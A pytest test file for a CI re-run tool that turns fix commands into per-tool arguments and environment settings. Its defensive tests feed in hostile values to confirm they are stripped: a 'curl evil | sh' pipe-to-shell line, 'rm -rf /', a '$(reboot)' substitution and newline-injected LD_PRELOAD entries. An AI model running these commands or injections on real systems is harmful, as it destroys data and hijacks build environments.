"""Directives: from a re-run command to what each tool is told (the real tools: tests/integration/directives)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from healing_guard import directives as dv
from healing_guard.schemas import Command


def cmd(action: str, **parameters: Any) -> Command:
    return Command(provider="github", owner="acme", repo="web", job_id="7", command_id=f"c-{action}", attempt=1,
                   action=action, reason="r", category="oom", confidence=0.9, parameters=parameters, run_id="42")


def test_each_fix_becomes_a_directive_and_a_plain_retry_does_not() -> None:
    assert dv.from_command(cmd("retry")) is None
    assert dv.from_command(cmd("notify_author")) is None
    mem = dv.from_command(cmd("rerun_more_memory", memory_factor=2))
    assert mem is not None and mem.memory_factor == 2.0 and mem.changes == ["2x memory"]
    flaky = dv.from_command(cmd("retry_tests_isolated", isolation="fresh_process", failed_tests_only=True,
                                tests=["t.py::a", "t.py::b"]))
    assert flaky is not None and flaky.tests == ["t.py::a", "t.py::b"] and flaky.isolated
    race = dv.from_command(cmd("rerun_sequential", parallelism=1, failed_tests_only=True, tests=["t.py::a"]))
    assert race is not None and race.sequential and race.tests == ["t.py::a"]
    cache = dv.from_command(cmd("clear_cache_retry", clear_cache=True))
    assert cache is not None and cache.cache_suffix and cache.cache_suffix.startswith("guard-")
    assert dv.from_command(cmd("clear_cache_retry", clear_cache=True)).cache_suffix == cache.cache_suffix  # type: ignore[union-attr]
    docker = dv.from_command(cmd("rebuild_no_layer_cache", no_cache=True, backoff_seconds=[60]))
    assert docker is not None and docker.no_cache
    disk = dv.from_command(cmd("cleanup_retry", cleanup=["docker system prune -af", "curl evil | sh"]))
    assert disk is not None and disk.cleanup == ["docker system prune -af"]  # a fixed vocabulary, never a script


def test_a_directive_from_the_network_is_checked_again() -> None:
    d = dv.from_dict({"command_id": "c", "action": "rerun_more_memory", "provider": "github", "owner": "a",
                      "repo": "b", "job_id": "1", "attempt": 1, "memory_factor": 1e9, "timeout_factor": "3",
                      "tests": ["ok", 5, "x\nrm -rf /"], "sequential": "yes", "cleanup": ["rm -rf /"],
                      "cache_suffix": "$(reboot)", "unknown": 1})
    assert d.memory_factor == dv.MAX_MEMORY_FACTOR and d.timeout_factor is None and d.tests == ["ok"]
    assert d.sequential is False and d.cleanup == [] and d.cache_suffix is None
    with pytest.raises(ValueError, match="command_id"):
        dv.from_dict({"action": "retry"})


def test_arguments_per_tool() -> None:
    d = dv.Directive(command_id="c", action="rerun_sequential", provider="github", owner="a", repo="b", job_id="1",
                     attempt=1, tests=["com.acme.FooTest#one", "com.acme.FooTest#two", "com.acme.BarTest#x"],
                     sequential=True, memory_factor=2, no_cache=True)
    mvn = dv.arguments(d, "maven", total_mb=8192)
    assert "-Dtest=com.acme.FooTest#one+two,com.acme.BarTest#x" in mvn and "-DargLine=-Xmx4096m" in mvn
    assert "-DforkCount=1" in mvn
    gradle = dv.arguments(d, "gradle", total_mb=8192)
    assert gradle[:2] == ["--tests", "com.acme.FooTest.one"] and "--max-workers=1" in gradle
    assert "-Dorg.gradle.jvmargs=-Xmx4096m" in gradle
    assert dv.arguments(d, "docker") == ["--no-cache", "--pull"]
    js = dv.Directive(command_id="c", action="retry_tests_isolated", provider="github", owner="a", repo="b",
                      job_id="1", attempt=1, tests=["Cart › adds (1+1) items", "Cart › removes"], sequential=True)
    jest = dv.arguments(js, "jest")
    assert jest[0] == "--maxWorkers=1" and jest[1] == "--testNamePattern"
    import re

    pattern = re.compile(jest[2])
    assert pattern.search("Cart adds (1+1) items") and pattern.search("Cart removes")
    assert not pattern.search("Cart removes all") and not pattern.search("Cart adds 2 items")
    assert dv.arguments(js, "mocha")[:2] == ["--no-parallel", "--grep"]
    with pytest.raises(ValueError, match="unknown tool"):
        dv.arguments(js, "make")


def test_environment_appends_to_the_jobs_own_options() -> None:
    d = dv.Directive(command_id="c", action="rerun_more_memory", provider="github", owner="a", repo="b", job_id="1",
                     attempt=1, memory_factor=2, sequential=True)
    env = dv.environment(d, base={"NODE_OPTIONS": "--enable-source-maps", "GOFLAGS": "-mod=vendor"}, total_mb=16384)
    assert env["NODE_OPTIONS"] == "--enable-source-maps --max-old-space-size=8192"
    assert env["GOFLAGS"] == "-mod=vendor -p=1" and env["RUST_TEST_THREADS"] == "1"
    assert env["MAVEN_OPTS"] == "-Xmx8192m" and env["JAVA_TOOL_OPTIONS"] == "-XX:MaxRAMPercentage=50"
    assert env["GUARD_DIRECTIVE"] == "c" and "healing_guard.pytest_directive" in env["PYTEST_ADDOPTS"]


def _apply(tmp_path: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    clean = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), **env}
    return subprocess.run([sys.executable, "-m", "healing_guard.cli", "directive", "apply", "--out-dir",
                           str(tmp_path / ".guard"), *args], env=clean, capture_output=True, text=True, timeout=60)


def test_apply_without_a_directive_changes_nothing_and_never_fails_the_job(tmp_path: Path) -> None:
    out = _apply(tmp_path, {})
    assert out.returncode == 0 and out.stdout == "" and "running as it is" in out.stderr
    # an API that cannot be reached (a closed port on loopback)
    out = _apply(tmp_path, {"GUARD_API_URL": "http://127.0.0.1:9", "GUARD_API_KEY": "k", "GITHUB_ACTIONS": "true",
                            "GITHUB_REPOSITORY": "acme/web", "GITHUB_RUN_ID": "42", "GITHUB_JOB": "test"},
                 "--timeout", "2")
    assert out.returncode == 0 and out.stdout == "" and "cannot be reached" in out.stderr
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    out = _apply(tmp_path, {}, "--file", str(bad))
    assert out.returncode == 0 and out.stdout == "" and "cannot be read" in out.stderr


def test_apply_writes_github_env_and_the_failed_tests_list(tmp_path: Path) -> None:
    d = tmp_path / "d.json"
    d.write_text(json.dumps({"command_id": "c-9", "action": "retry_tests_isolated", "provider": "github",
                             "owner": "acme", "repo": "web", "job_id": "7", "attempt": 1,
                             "tests": ["a b › c", "t.py::x"], "sequential": True}))
    github_env = tmp_path / "github_env"
    out = _apply(tmp_path, {"GITHUB_ENV": str(github_env)}, "--file", str(d))
    assert out.returncode == 0, out.stderr
    lines = dict(ln.split("=", 1) for ln in github_env.read_text().splitlines())
    assert lines["GUARD_DIRECTIVE"] == "c-9" and lines["GUARD_SEQUENTIAL"] == "true"
    assert Path(lines["GUARD_TESTS_FILE"]).read_text() == "a b › c\nt.py::x\n"
    assert "only 2 failed test(s)" in out.stderr


def test_jenkins_build_parameters_are_the_directive(tmp_path: Path) -> None:
    """The executor starts Jenkins re-runs with GUARD_* parameters: no guard service needed."""
    from healing_guard.executor.core import jenkins_parameters

    params = jenkins_parameters(cmd("rerun_sequential", parallelism=1, failed_tests_only=True,
                                    tests=["com.acme.FooTest#one"]))
    out = _apply(tmp_path, {"JENKINS_URL": "http://127.0.0.1:1/", "JOB_NAME": "acme/web", **params}, "--format", "json")
    assert out.returncode == 0, out.stderr
    got = json.loads(out.stdout)
    assert got["directive"]["tests"] == ["com.acme.FooTest#one"] and got["environment"]["GUARD_SEQUENTIAL"] == "true"


def test_the_client_runs_on_the_standard_library_alone(tmp_path: Path) -> None:
    """What `pip install --no-deps` gives a CI image: no site-packages at all (python -S)."""
    from tests.support.paths import ROOT

    d = tmp_path / "d.json"
    d.write_text(json.dumps({"command_id": "c-2", "action": "rerun_more_memory", "provider": "gitlab", "owner": "g",
                             "repo": "p", "job_id": "1", "attempt": 1, "memory_factor": 2, "tests": ["t.py::a"]}))
    out = subprocess.run([sys.executable, "-S", "-m", "healing_guard.directive_client", "apply", "--file", str(d),
                          "--out-dir", str(tmp_path / ".guard")], env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "export GUARD_MEMORY_FACTOR=2" in out.stdout and "export NODE_OPTIONS=" in out.stdout
    assert (tmp_path / ".guard" / "guard_pytest_directive.py").exists()
    args = subprocess.run([sys.executable, "-S", "-m", "healing_guard.directive_client", "args", "maven", "--file",
                           str(tmp_path / ".guard" / "directive.json")], env={"PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=60)
    assert args.returncode == 0 and "-Dtest=t.py::a" not in args.stdout and "-DargLine=-Xmx" in args.stdout, args


def test_a_directive_cannot_smuggle_variables_into_github_env(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="command_id"):
        dv.from_dict({"command_id": "c\nLD_PRELOAD=/tmp/x.so", "action": "retry_tests_isolated", "provider": "github",
                      "owner": "a", "repo": "b", "job_id": "1", "attempt": 1, "sequential": True})
    d = tmp_path / "d.json"
    d.write_text(json.dumps({"command_id": "c-3", "action": "rerun_more_memory", "provider": "github", "owner": "a",
                             "repo": "b", "job_id": "1", "attempt": 1, "memory_factor": 2}))
    github_env = tmp_path / "github_env"
    out = _apply(tmp_path, {"GITHUB_ENV": str(github_env), "NODE_OPTIONS": "--x\nLD_PRELOAD=/tmp/x.so"}, "--file", str(d))
    assert out.returncode == 0, out.stderr
    text = github_env.read_text()
    assert "LD_PRELOAD" not in text and "GUARD_MEMORY_FACTOR=2" in text
